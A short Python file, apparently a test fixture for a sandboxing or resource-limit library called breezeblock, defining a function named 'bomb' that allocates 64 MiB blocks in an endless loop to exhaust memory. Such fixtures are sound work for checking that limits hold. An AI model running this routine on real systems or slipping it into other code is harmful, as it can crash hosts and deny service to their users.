from breezeblock import configure


@configure
def bomb():
    chunks = []
    while True:
        chunks.append(bytearray(64 * 1024 * 1024))
